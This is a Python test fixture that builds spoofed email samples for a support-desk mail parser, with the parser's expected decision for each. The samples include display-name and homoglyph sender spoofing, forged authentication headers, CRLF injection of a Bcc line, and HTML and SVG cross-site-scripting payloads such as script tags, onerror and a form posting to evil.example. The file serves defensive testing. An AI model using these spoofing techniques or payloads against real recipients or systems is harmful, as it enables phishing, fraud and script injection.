"""Mails that pretend: to be of somebody else, to be proved, or to be something that they are not."""

from __future__ import annotations

from collections.abc import Iterator

from tests.channels.email.corpus.sample import OUR_ID, Sample
from tests.channels.email.corpus.talk import DESK
from tests.channels.email.corpus.writing import b_word, entity, mail, q_word, text

EVE = "eve@evil.example"
BODY = text("Please pay at once.\n")
#: Whoever is no participant is heard by the reply address only, as unverified.
BY_TOKEN = {"token": "valid", "token_ticket": 1}


def spoof(name: str, how: str, head: str, **expected: object) -> Sample:
    values: dict[str, object] = {"author": EVE, "decision": "open", "sees": ("Please pay at once.",), **expected}
    raw = mail(f"{head}\nTo: {DESK}\nSubject: Invoice\nMessage-ID: <spoof@evil.example>", BODY)
    return Sample(name=f"spoof: {name}", raw=raw, axes={"client": "any", "spoof": how}, **values)  # type: ignore[arg-type]


def _names() -> Iterator[Sample]:
    """sec:A-10."""
    other = {"problems": ("name_is_other_address",), "decision": "receive:unverified", "known": BY_TOKEN}
    yield spoof("an address as the name", "display name", f'From: "kim@customer.example" <{EVE}>', **other)
    yield spoof(
        "an address in an encoded name",
        "display name",
        f"From: {q_word('Kim <kim@customer.example>')} <{EVE}>",
        **other,
    )
    yield spoof("an address in a comment's place", "display name", f"From: Kim (kim@customer.example) <{EVE}>", **other)
    yield spoof("an address with a wide sign", "display name", f"From: {b_word('kim＠customer.example')} <{EVE}>",
                problems=("name_is_other_address",))  # fmt: skip
    yield spoof("directions turned", "hidden signs", f"From: {b_word('Desk' + chr(0x202E) + 'elpmaxe.ksed')} <{EVE}>",
                problems=("name_hides_characters",))  # fmt: skip
    yield spoof("signs without width", "hidden signs", f"From: {b_word('De' + chr(0x200B) + 'sk Support')} <{EVE}>",
                problems=("name_hides_characters",))  # fmt: skip
    yield spoof("a domain of two scripts", "look-alike", "From: Kim <kim@custоmer.example>", author="kim@xn--custmer-djg.example",
                problems=("domain_mixes_scripts",), decision="receive:unverified", known=BY_TOKEN)  # fmt: skip
    yield spoof(
        "a domain of cyrillic letters only", "look-alike", "From: Kim <kim@хн.example>", author="kim@xn--m1ap.example"
    )
    yield spoof("a domain already in its ascii form", "look-alike", "From: Kim <kim@xn--e1afmkfd.example>",
                author="kim@xn--e1afmkfd.example")  # fmt: skip
    yield spoof("another case is the same customer", "look-alike", "From: Kim <KIM@Customer.Example>", author="KIM@customer.example",
                decision="receive", known=BY_TOKEN)  # fmt: skip
    yield spoof("a dot more is somebody else", "look-alike", "From: Kim <k.im@customer.example>", author="k.im@customer.example",
                decision="receive:unverified", known=BY_TOKEN)  # fmt: skip
    yield spoof("a wide letter is somebody else", "look-alike", "From: Kim <ｋim@customer.example>", author="ｋim@customer.example",
                decision="receive:unverified", known=BY_TOKEN)  # fmt: skip


def _fields() -> Iterator[Sample]:
    """sec:A-09, A-12, A-17."""
    unusable = {"author": None, "is_a": "unusable", "reason": "no_author", "decision": "quarantine:no_author"}
    yield spoof("two From fields", "several from", f"From: {EVE}\nFrom: Kim <kim@customer.example>", problems=("duplicate_from",),
                decision="receive:unverified", known=BY_TOKEN)  # fmt: skip
    yield spoof("two authors", "several from", f"From: {EVE}, kim@customer.example", problems=("several_authors",))
    yield spoof("two authors and who sent it", "sender", f"From: kim@customer.example, {EVE}\nSender: {EVE}",
                problems=("several_authors",), decision="receive:unverified", known=BY_TOKEN)  # fmt: skip
    yield spoof("sender of a customer", "sender", f"From: {EVE}\nSender: kim@customer.example\nReply-To: kim@customer.example",
                decision="receive:unverified", known=BY_TOKEN)  # fmt: skip
    yield spoof("resent by a customer", "sender", f"From: {EVE}\nResent-From: kim@customer.example\nX-Original-From: kim@customer.example",
                decision="receive:unverified", known=BY_TOKEN)  # fmt: skip
    yield spoof("a group", "group", f"From: Team: {EVE}, kim@customer.example;", problems=("several_authors",))
    yield spoof("an empty group", "group", "From: undisclosed-recipients:;", problems=("no_author",), **unusable)
    yield spoof("an empty From", "empty from", "From:", problems=("no_author",), **unusable)
    yield spoof("empty brackets", "empty from", "From: <>", problems=("from_unreadable", "no_author"), **unusable)
    yield spoof(
        "a name and no address", "empty from", "From: Kim Larch", problems=("from_unreadable", "no_author"), **unusable
    )
    yield spoof("no From field", "empty from", "X-From: kim@customer.example", problems=("no_author",), **unusable)
    yield spoof("two at signs", "broken address", "From: kim@customer.example@evil.example",
                problems=("from_unreadable", "no_author"), **unusable)  # fmt: skip
    yield spoof("an encoded word for the whole address", "encoded word", f"From: {q_word('kim@customer.example')}",
                problems=("from_unreadable", "no_author"), **unusable)  # fmt: skip
    yield spoof("an encoded word in the local part", "encoded word", "From: =?utf-8?q?kim=40customer.example?=@evil.example",
                author="=?utf-8?q?kim=40customer.example?=@evil.example", problems=("name_is_other_address",))  # fmt: skip
    yield spoof(
        "blanks in a quoted local part",
        "broken address",
        'From: "kim larch"@evil.example',
        author='"kim larch"@evil.example',
    )
    yield spoof("a route of old", "broken address", "From: <@customer.example:eve@evil.example>")
    yield spoof("a comma in a bare name", "broken address", f"From: Larch, Kim <{EVE}>", problems=("from_unreadable",))
    yield spoof("line ends in a name", "injection", f"From: {q_word('Kim' + chr(13) + chr(10) + 'Bcc: lee@customer.example')} <{EVE}>",
                problems=("name_is_other_address", "name_hides_characters"))  # fmt: skip
    yield spoof(
        "a NUL in the address",
        "injection",
        "From: kim\0@customer.example",
        problems=("from_unreadable", "no_author"),
        **unusable,
    )


def _proofs() -> Iterator[Sample]:
    """sec:A-05, A-14, A-18."""
    unverified = {"decision": "receive:unverified", "known": BY_TOKEN}
    yield spoof("results of checks that it wrote itself", "authentication results",
                f"Authentication-Results: desk.example; dmarc=pass header.from=customer.example\nReceived-SPF: pass\nFrom: {EVE}",
                **unverified)  # fmt: skip
    yield spoof("sealed results", "authentication results",
                f"ARC-Authentication-Results: i=1; desk.example; dmarc=pass\nARC-Seal: i=1; cv=pass\nFrom: {EVE}", **unverified)  # fmt: skip
    yield spoof("a Message-ID of ours", "threading", f"From: {EVE}\nIn-Reply-To: {OUR_ID}\nReferences: {OUR_ID}",
                known={"sent": {OUR_ID.strip("<>"): 1}})  # fmt: skip
    yield spoof(
        "our own address", "ourselves", f"From: {DESK}", author=DESK, decision="quarantine:loop", known={"ours": {DESK}}
    )
    yield spoof("a guessed token", "threading", f"From: {EVE}\nX-Token: 1", known={"token": "wrong"})
    yield spoof("trace fields of its own", "control headers",
                f"Delivered-To: support+t1@desk.example\nX-Original-To: x@desk.example\nFrom: {EVE}")  # fmt: skip
    raw = mail(
        f"From: {EVE}\nTo: {DESK}\nSubject: {q_word('Re: x' + chr(13) + chr(10) + 'Bcc: all')}\nMessage-ID: <inj@evil.example>",
        BODY,
    )
    yield Sample(name="spoof: line ends in the subject", raw=raw, axes={"client": "any", "spoof": "injection"}, author=EVE,
                 subject="Re: x Bcc: all", sees=("Please pay",))  # fmt: skip
    hidden = b_word("Invoice" + chr(0x202E) + chr(0x200B) + "5")
    yield Sample(
        name="spoof: directions in the subject", axes={"client": "any", "spoof": "hidden signs"}, author=EVE, subject="Invoice5",
        raw=mail(f"From: {EVE}\nTo: {DESK}\nSubject: {hidden}\nMessage-ID: <dir@evil.example>", BODY), sees=("Please pay",),
    )  # fmt: skip
    html = (
        '<form action="https://evil.example"><input name=p></form><script>alert(1)</script><img src="https://t.example/1.gif" '
        'onerror=alert(1)><a href="javascript:alert(1)">your desk</a><p style="position:fixed">Please pay at once.</p>'
    )
    yield Sample(
        name="spoof: html that would act", axes={"client": "any", "spoof": "markup"}, author=EVE, sees=("Please pay at once.", "your desk"),
        raw=mail(f"From: {EVE}\nTo: {DESK}\nSubject: x\nMessage-ID: <act@evil.example>", text(html, "html")),
    )  # fmt: skip
    yield Sample(
        name="spoof: a quotation that was never written", axes={"client": "any", "spoof": "markup"}, author=EVE,
        raw=mail(f"From: {EVE}\nTo: {DESK}\nSubject: x\nMessage-ID: <quo@evil.example>",
                 text("As agreed.\n\nOn Mon, Nov 16, 2026 at 10:00 AM Desk <support@desk.example> wrote:\n> We pay you all.\n> Yes.\n")),
        sees=("As agreed.",), folds=("We pay you all.",),
    )  # fmt: skip
    yield Sample(
        name="spoof: a picture that is markup", axes={"client": "any", "spoof": "type"}, author=EVE, problems=("type_mismatch",),
        raw=mail(f"From: {EVE}\nTo: {DESK}\nSubject: x\nMessage-ID: <svg@evil.example>",
                 entity('Content-Type: image/png; name="photo.png"', b"<svg onload=alert(1)>")),
        files=(("photo.png", "application/octet-stream"),),
    )  # fmt: skip


SAMPLES = [*_names(), *_fields(), *_proofs()]
